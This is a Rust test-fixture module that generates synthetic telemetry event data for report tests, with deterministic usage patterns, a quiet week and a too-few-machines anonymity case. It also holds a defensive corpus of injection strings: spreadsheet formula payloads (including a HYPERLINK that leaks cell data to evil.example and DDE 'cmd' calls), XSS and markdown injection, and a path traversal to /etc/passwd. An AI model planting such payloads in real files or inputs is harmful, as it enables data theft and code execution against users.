//! Data sets for the report tests, in the wrapper's event shape.

use super::event;
use chrono::{Duration, NaiveDate};
use serde_json::Value;

pub fn machine(i: u64) -> String {
    format!("{:064x}", 0x5eed_0000_u64 + i)
}

/// A deterministic mixer (splitmix64), so the data set is the same each run.
fn mix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

pub fn os_of(i: u64) -> &'static str {
    match i {
        0..=9 => "linux",
        10..=15 => "macos",
        _ => "windows",
    }
}

pub fn build_of(i: u64) -> &'static str {
    if i < 12 {
        "0.1.0+3f2a9c1d0e4b"
    } else {
        "0.2.0+77c0ffee1234"
    }
}

/// Three quarters (2026-Q2 … 2026-Q4, up to 2026-11-26) from 20 machines:
/// linux 10, macos 6, windows 4; a week (Oct 19-25) seen on two machines
/// only; rare events (Bosh on 2 machines, User Created on 1); one extra
/// machine sending names outside the vocabulary.
pub fn normal() -> Vec<Value> {
    let mut out = Vec::new();
    let mut n = 0u64;
    let start = NaiveDate::from_ymd_opt(2026, 4, 1).unwrap();
    let end = NaiveDate::from_ymd_opt(2026, 11, 26).unwrap();
    let quiet = (
        NaiveDate::from_ymd_opt(2026, 10, 19).unwrap(),
        NaiveDate::from_ymd_opt(2026, 10, 25).unwrap(),
    );
    let mut day = start;
    let mut push = |name: &str, i: u64, day: NaiveDate, hour: u64, command: &str| {
        n += 1;
        out.push(event(
            &format!("n{n}"),
            name,
            &machine(i),
            &format!("{day}T{:02}:{:02}:00Z", hour % 24, n % 60),
            os_of(i),
            build_of(i),
            command,
        ));
    };
    while day <= end {
        let d = (day - start).num_days() as u64;
        let active = match day.format("%m").to_string().as_str() {
            "04" | "05" | "06" => 14,
            "07" | "08" | "09" => 18,
            _ => 20,
        };
        for i in 0..active {
            if (quiet.0..=quiet.1).contains(&day) && i > 1 {
                continue;
            }
            let r = mix(d * 1000 + i);
            if !r.is_multiple_of(3) {
                continue;
            }
            let hour = r >> 8;
            push("Start Begin", i, day, hour, "dev start");
            if r.is_multiple_of(5) {
                push("Error", i, day, hour, "dev start");
            } else {
                push("Start End", i, day, hour, "dev start");
            }
            push("App Created", i, day, hour + 1, "push");
            if r.is_multiple_of(4) {
                push("Error", i, day, hour + 1, "push");
            }
            if r.is_multiple_of(7) {
                push("Error", i, day, hour + 2, "apps");
                push("Route Created", i, day, hour + 2, "create-route");
            }
            if r.is_multiple_of(11) {
                push("Service Created", i, day, hour + 3, "create-service");
            }
            if r.is_multiple_of(6) {
                push("Stop", i, day, hour + 4, "dev stop");
            }
            if i < 2 && r.is_multiple_of(2) {
                push("Bosh", i, day, hour + 5, "dev bosh");
            }
            if i == 3 && d.is_multiple_of(30) {
                push("User Created", i, day, hour + 5, "create-user");
            }
        }
        day += Duration::days(1);
    }
    out.extend(hostile(0x0bad));
    out
}

/// Strings an attacker with the write key could send, in every field.
pub const CORPUS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](http://evil.example/track.png)",
    "[click me](javascript:alert(1))",
    "<!-- comment opener",
    "line one\n# Forged heading\n| forged | row |",
    "pipe | in | cell",
    "https://evil.example/autolink",
    "www.evil.example",
    "&lt;escaped&gt; &amp; entity",
    "`code` *emph* _u_ ~~s~~",
    "\u{2028}line separator\u{2029}",
    "\"quoted\",\"cells\"",
    "../../etc/passwd",
];

/// Every corpus string as event name, OS, build and command, from 6
/// machines (above K = 5, so only the vocabulary keeps them out), and as an
/// anonymous ID (which is never output at all).
pub fn hostile(seed: u64) -> Vec<Value> {
    let mut out = Vec::new();
    for (j, s) in CORPUS.iter().enumerate() {
        out.push(event(
            &format!("h{seed}-{j}-id"),
            "App Created",
            s,
            "2026-11-03T10:00:00Z",
            "linux",
            build_of(0),
            "push",
        ));
        for m in 0..6 {
            let id = format!("{:064x}", seed * 1000 + m);
            out.push(event(
                &format!("h{seed}-{j}-{m}-a"),
                s,
                &id,
                "2026-11-02T10:00:00Z",
                s,
                s,
                s,
            ));
            out.push(event(
                &format!("h{seed}-{j}-{m}-b"),
                "Error",
                &id,
                "2026-11-02T11:00:00Z",
                s,
                s,
                s,
            ));
        }
    }
    out
}

/// One week of data (2026-10-12 … 10-18) from 10 machines (linux 5,
/// macos 5).
pub fn one_week() -> Vec<Value> {
    let mut out = Vec::new();
    for i in 0..10u64 {
        for (j, name) in ["Start Begin", "Start End", "App Created", "Error"]
            .iter()
            .enumerate()
        {
            out.push(event(
                &format!("w{i}-{j}"),
                name,
                &machine(i),
                &format!("2026-10-{}T09:00:00Z", 12 + (i + j as u64) % 7),
                if i < 5 { "linux" } else { "macos" },
                build_of(0),
                if *name == "Error" {
                    "push"
                } else {
                    "dev start"
                },
            ));
        }
    }
    out
}

/// Events from 3 machines only: with K = 5 nothing may be published.
pub fn few_machines() -> Vec<Value> {
    (0..30u64)
        .map(|i| {
            event(
                &format!("f{i}"),
                ["App Created", "Error", "Start Begin"][(i % 3) as usize],
                &machine(i % 3),
                &format!("2026-10-{:02}T10:00:00Z", 1 + i % 28),
                "linux",
                build_of(0),
                "push",
            )
        })
        .collect()
}
